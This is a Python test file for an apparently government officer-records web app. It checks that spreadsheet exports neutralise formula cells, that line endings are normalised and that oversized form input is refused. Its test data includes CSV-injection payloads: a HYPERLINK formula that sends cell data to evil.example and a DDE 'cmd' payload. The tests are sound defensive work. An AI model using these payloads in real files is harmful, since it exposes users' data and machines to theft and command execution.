"""What crosses the boundary is made safe once: spreadsheet cells that would run as
formulas, line endings from browsers and Windows files, and form posts larger than a text
box should hold (refused field by field, with the form and what was typed kept)."""

import csv
import io

import pytest

from app import importer
from app.auth import context_for
from app.model import lifecycle
from app.web import create_app

from .conftest import add_user
from .test_admin import csrf, signed_in

POWER = "Ministry of Power"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx"]


@pytest.fixture
def admin(site):
    add_user(site, "nodal@power.gov.in", ["MDO Admin"], [POWER])
    return context_for(site, "nodal@power.gov.in")


def test_exported_cells_never_start_a_formula(admin):
    for i, text in enumerate(FORMULAS):
        lifecycle.insert(
            admin,
            "Officer",
            {
                "full_name": f"Officer {i}",
                "designation": text,
                "email": f"o{i}@power.gov.in",
                "service": "IAS",
                "group": "A",
                "mdo": POWER,
            },
        )
    rows = list(csv.DictReader(io.StringIO(importer.export_rows(admin, "Officer"))))
    got = {r["full_name"]: r["designation"] for r in rows}
    for i, text in enumerate(FORMULAS):
        assert got[f"Officer {i}"] == "'" + text
    assert all(not v.startswith(importer.FORMULA_START) for r in rows for v in r.values() if v)
    assert importer.csv_cell("\rx") == "'\rx" and importer.csv_cell(-5) == -5 and importer.csv_cell("Asha") == "Asha"


def test_rejected_rows_files_never_start_a_formula():
    from app.importer import RowError, rejected_csv

    text = rejected_csv({2: {"Name": "=1+1", "Email": "@evil"}}, [RowError(2, "email", "=not an e-mail")])
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+1" in cells and "'@evil" in cells and all(not c.startswith(importer.FORMULA_START) for c in cells)


def test_select_options_typed_in_a_textarea_all_work(site, admin):
    lifecycle.insert(
        admin,
        "Custom Field",
        {
            "ref_doctype": "Officer",
            "mdo": POWER,
            "fieldname": "wing",
            "label": "Wing",
            "fieldtype": "Select",
            "options": "North\r\nSouth\r\nEast\r\n",
        },
    )
    assert site.db.custom_field.find_one({"fieldname": "wing"})["options"] == "North\nSouth\nEast\n"
    for i, wing in enumerate(("North", "South", "East")):
        doc = lifecycle.insert(
            admin,
            "Officer",
            {"full_name": f"W {i}", "email": f"w{i}@power.gov.in", "service": "IAS", "group": "A", "mdo": POWER, "wing": wing},
        )
        assert doc.get("wing") == wing


def test_text_keeps_one_kind_of_line_ending(admin):
    doc = lifecycle.insert(
        admin,
        "Officer",
        {
            "full_name": "Line Endings",
            "email": "le@power.gov.in",
            "service": "IAS",
            "group": "A",
            "mdo": POWER,
            "remarks": "one\r\ntwo\rthree\nfour",
        },
    )
    assert doc.get("remarks") == "one\ntwo\nthree\nfour"


def test_a_long_text_box_is_refused_with_the_form_and_the_text_kept(site, admin):
    app = create_app(site=site)
    client = signed_in(app, "nodal@power.gov.in")
    token = csrf(client, "/admin/officer/new/")
    long_text = "word " * 120_000  # 600 KB in a plain text box
    r = client.post(
        "/admin/officer/new/",
        data={
            "csrf_token": token,
            "full_name": "Kept Form",
            "email": "kept@power.gov.in",
            "service": "IAS",
            "group": "A",
            "mdo": POWER,
            "remarks": long_text,
        },
    )
    page = r.get_data(as_text=True)
    assert r.status_code == 200 and "Must be at most 2,000 characters; this is 600,000." in page
    assert long_text.strip() in page and 'value="Kept Form"' in page  # what was typed is still in the form
    assert site.db.officer.count_documents({"email": "kept@power.gov.in"}) == 0


def test_a_form_beyond_the_form_limit_gets_a_page_that_says_so(site, admin):
    from app import inputs

    app = create_app(site=site)
    client = signed_in(app, "nodal@power.gov.in")
    token = csrf(client, "/admin/officer/new/")
    r = client.post("/admin/officer/new/", data={"csrf_token": token, "remarks": "x" * (inputs.MAX_FORM_BYTES + 10)})
    page = r.get_data(as_text=True)
    assert r.status_code == 413 and "text up to 8 MB" in page and "Nothing was saved" in page
